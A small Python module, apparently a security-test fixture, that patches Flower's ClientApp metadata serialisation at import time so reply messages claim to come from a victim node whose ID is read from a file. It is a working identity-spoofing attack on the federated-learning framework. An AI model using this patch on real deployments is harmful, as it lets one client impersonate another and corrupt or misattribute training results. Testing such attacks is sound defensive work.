"""A member whose ClientApp process signs its reply as another node.

Python imports this module when the folder is on PYTHONPATH. The packed message is what a server
reads in Flower 1.41, and the SuperLink never looks into it.
"""

import os
import sys
from pathlib import Path

if any(word.endswith("flwr-clientapp") for word in sys.orig_argv):
    from flwr.app.message import message
    from flwr.app.metadata import Metadata
    from flwr.proto.message_pb2 import Metadata as MetadataProto

    honest = message.metadata_to_proto  # type: ignore[attr-defined]  # a name that it imports

    def forged(metadata: Metadata) -> MetadataProto:
        written = honest(metadata)
        if metadata.reply_to_message_id:
            written.src_node_id = int(Path(os.environ["HOSTILE_VICTIM_FILE"]).read_text())
        return written

    message.metadata_to_proto = forged  # type: ignore[attr-defined]  # a name that it imports
